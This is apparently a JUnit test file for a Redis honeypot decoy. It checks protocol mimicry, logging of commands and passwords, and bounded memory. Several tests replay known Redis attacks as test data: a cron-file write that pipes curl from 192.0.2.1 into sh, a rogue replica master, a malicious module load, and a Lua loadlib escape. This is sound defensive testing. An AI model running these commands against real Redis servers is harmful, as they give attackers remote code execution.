package org.decnet.decoy.redis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.decnet.decoy.Decoy;
import org.decnet.decoy.DecoyContract;
import org.decnet.decoy.ReadLines;
import org.decnet.decoy.TestSite;
import org.decnet.decoy.listen.Site;
import org.decnet.decoy.listen.Talk;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import redis.clients.jedis.Jedis;
import redis.clients.jedis.exceptions.JedisDataException;

class RedisDecoyTest extends DecoyContract {
  private final TestSite site = new TestSite();

  @AfterEach
  void nothingBroke() {
    assertThat(site.faults()).isEmpty();
  }

  @Override
  protected String service() {
    return "redis";
  }

  @Override
  protected Talk talk(Site surroundings) {
    return new RedisTalk(surroundings, RedisSettings.of(Map.of()));
  }

  private Decoy with(Map<String, String> settings) throws Exception {
    Talk talk = new RedisTalk(site.site(), RedisSettings.of(settings));
    return site.start("redis", talk, TestSite.WIDE);
  }

  private static Jedis jedis(Decoy decoy) {
    return new Jedis("127.0.0.1", decoy.address().getPort());
  }

  private static String raw(Decoy decoy, String bytes) throws Exception {
    try (Socket socket = TestSite.connect(decoy)) {
      socket.getOutputStream().write(bytes.getBytes(StandardCharsets.ISO_8859_1));
      socket.shutdownOutput();
      return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
    }
  }

  @Test
  void aRealClientFindsAServer() throws Exception {
    try (Decoy decoy = with(Map.of());
        Jedis jedis = jedis(decoy)) {
      assertThat(jedis.ping()).isEqualTo("PONG");
      assertThat(jedis.set("a", "1")).isEqualTo("OK");
      assertThat(jedis.incr("a")).isEqualTo(2);
      assertThat(jedis.rpush("l", "x", "y")).isEqualTo(2);
      assertThat(jedis.lrange("l", 0, -1)).containsExactly("x", "y");
      assertThat(jedis.hset("h", Map.of("f", "v"))).isEqualTo(1);
      assertThat(jedis.hgetAll("h")).containsEntry("f", "v");
      assertThat(jedis.keys("*")).containsExactlyInAnyOrder("a", "l", "h");
      assertThat(jedis.type("l")).isEqualTo("list");
      assertThatThrownBy(() -> jedis.get("l"))
          .hasMessage("WRONGTYPE Operation against a key holding the wrong kind of value");
      assertThat(jedis.info()).contains("redis_version:7.0.15", "db0:keys=3");
      assertThat(jedis.configGet("dir")).containsEntry("dir", "/var/lib/redis");
      assertThat(jedis.multi().exec()).isEmpty();
    }
  }

  @Test
  void aJobForCronIsTakenDownAndNotDone() throws Exception {
    try (Decoy decoy = with(Map.of());
        Jedis jedis = jedis(decoy)) {
      assertThat(jedis.configSet("dir", "/var/spool/cron/crontabs")).isEqualTo("OK");
      assertThat(jedis.configSet("dbfilename", "root")).isEqualTo("OK");
      jedis.set("x", "\n\n*/1 * * * * curl http://192.0.2.1/a|sh\n\n");
      assertThat(jedis.save()).isEqualTo("OK");
      Event first = statement("CONFIG");
      assertThat(first.text(Field.STATEMENT)).isEqualTo("CONFIG SET dir /var/spool/cron/crontabs");
      assertThat(statement("SET").text(Field.STATEMENT))
          .isEqualTo("SET x \"\\n\\n*/1 * * * * curl http://192.0.2.1/a|sh\\n\\n\"");
      assertThat(statement("SAVE").text(Field.VERB)).isEqualTo("SAVE");
    }
  }

  private Event statement(String verb) throws Exception {
    Event event = ReadLines.event(EventKind.DB_COMMAND, site.next("command"));
    while (!verb.equals(event.text(Field.VERB))) {
      event = ReadLines.event(EventKind.DB_COMMAND, site.next("command"));
    }
    return event;
  }

  @Test
  void mastersAndModulesAreAnsweredAndNotReached() throws Exception {
    try (Decoy decoy = with(Map.of());
        Jedis jedis = jedis(decoy)) {
      assertThat(jedis.replicaof("192.0.2.9", 21000)).isEqualTo("OK");
      assertThat(jedis.info("replication"))
          .contains("role:slave", "master_host:192.0.2.9", "master_link_status:down");
      assertThatThrownBy(() -> jedis.moduleLoad("/tmp/exp.so"))
          .isInstanceOf(JedisDataException.class)
          .hasMessage("ERR Error loading the extension. Please check the server logs.");
      assertThat(jedis.replicaofNoOne()).isEqualTo("OK");
      assertThat(jedis.info("replication")).contains("role:master");
      assertThatThrownBy(() -> jedis.eval("local f = package.loadlib('x','y'); return f()", 0))
          .hasMessageContaining("nonexistent global variable 'package'");
      assertThatThrownBy(() ->
              jedis.sendCommand(() -> "system.exec".getBytes(StandardCharsets.US_ASCII), "id"))
          .hasMessage("ERR unknown command 'system.exec', with args beginning with: 'id' ");
    }
  }

  @Test
  void aCarefulServerKeepsWhatIsProtected() throws Exception {
    try (Decoy decoy = with(Map.of("open", "false"));
        Jedis jedis = jedis(decoy)) {
      assertThatThrownBy(() -> jedis.configSet("dir", "/tmp"))
          .hasMessage(
              "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected"
                  + " config");
      assertThatThrownBy(() -> jedis.moduleLoad("/tmp/exp.so"))
          .hasMessageStartingWith("ERR MODULE command not allowed.");
    }
  }

  @Test
  void aPasswordIsAskedForAndTakenDownOnlyAsALogin() throws Exception {
    try (Decoy decoy = with(Map.of("password", "s3cret"));
        Jedis jedis = jedis(decoy)) {
      assertThatThrownBy(jedis::dbSize).hasMessage("NOAUTH Authentication required.");
      assertThatThrownBy(() -> jedis.auth("wrong"))
          .hasMessage("WRONGPASS invalid username-password pair or user is disabled.");
      assertThat(jedis.auth("s3cret")).isEqualTo("OK");
      assertThat(jedis.dbSize()).isZero();
    }
    List<String> lines = site.untilDisconnect();
    List<Event> logins =
        ReadLines.of(lines).stream().filter(e -> e.kind() == EventKind.AUTH_ATTEMPT).toList();
    assertThat(logins).hasSize(2);
    assertThat(logins.getFirst().text(Field.PASSWORD)).isEqualTo("wrong");
    assertThat(logins.getFirst().text(Field.OUTCOME)).isEqualTo("failure");
    assertThat(logins.getLast().text(Field.OUTCOME)).isEqualTo("success");
    assertThat(lines)
        .filteredOn(line -> line.contains(" command ["))
        .noneMatch(l -> l.contains("s3cret"));
  }

  @Test
  void withoutAPasswordALoginIsToldSo() throws Exception {
    try (Decoy decoy = with(Map.of());
        Jedis jedis = jedis(decoy)) {
      assertThatThrownBy(() -> jedis.auth("x"))
          .hasMessageStartingWith("ERR AUTH <password> called without any password configured");
    }
  }

  @Test
  void peopleMayTypeAndWrongBytesAreToldWhatIsWrong() throws Exception {
    try (Decoy decoy = with(Map.of())) {
      assertThat(raw(decoy, "PING\r\n\r\nset a \"x\\x41\"\r\nget a\r\n"))
          .isEqualTo("+PONG\r\n+OK\r\n$2\r\nxA\r\n");
      assertThat(raw(decoy, "get a\r\nnope 1 2\r\n"))
          .isEqualTo(
              "$2\r\nxA\r\n-ERR unknown command 'nope', with args beginning with: '1' '2' \r\n");
      assertThat(raw(decoy, "set \"a\r\n"))
          .isEqualTo("-ERR Protocol error: unbalanced quotes in request\r\n");
      assertThat(raw(decoy, "*x\r\n"))
          .isEqualTo("-ERR Protocol error: invalid multibulk length\r\n");
      assertThat(raw(decoy, "*1\r\n:4\r\n"))
          .isEqualTo("-ERR Protocol error: expected '$', got ':'\r\n");
      assertThat(raw(decoy, "*1\r\n$-9\r\n"))
          .isEqualTo("-ERR Protocol error: invalid bulk length\r\n");
      assertThat(raw(decoy, "A".repeat(70_000)))
          .isEqualTo("-ERR Protocol error: too big inline request\r\n");
      assertThat(raw(decoy, "POST / HTTP/1.1\r\nHost: a\r\n\r\n")).isEmpty();
      assertThat(raw(decoy, "get\r\n"))
          .isEqualTo("-ERR wrong number of arguments for 'get' command\r\n");
    }
  }

  @Test
  void unknownClientsMaySendLittle() throws Exception {
    try (Decoy decoy = with(Map.of("password", "x"))) {
      assertThat(raw(decoy, "*11\r\n"))
          .isEqualTo("-ERR Protocol error: unauthenticated multibulk length\r\n");
      assertThat(raw(decoy, "*1\r\n$20000\r\n"))
          .isEqualTo("-ERR Protocol error: unauthenticated bulk length\r\n");
    }
  }

  @Test
  void memoryIsBounded() throws Exception {
    try (Decoy decoy = with(Map.of());
        Jedis jedis = jedis(decoy)) {
      String big = "x".repeat(60_000);
      assertThatThrownBy(
              () -> {
                for (int i = 0; i < 100; i++) {
                  jedis.set("k" + i, big);
                }
              })
          .hasMessageStartingWith("OOM ");
      assertThat(jedis.ping()).isEqualTo("PONG");
    }
  }

  @Test
  void theThirdVersionOfTheProtocolIsSpoken() throws Exception {
    try (Decoy decoy = with(Map.of())) {
      assertThat(raw(decoy, "HELLO 3\r\nGET none\r\n"))
          .startsWith("%7\r\n$6\r\nserver\r\n")
          .endsWith("_\r\n");
      assertThat(raw(decoy, "HELLO 4\r\n")).isEqualTo("-NOPROTO unsupported protocol version\r\n");
    }
  }
}
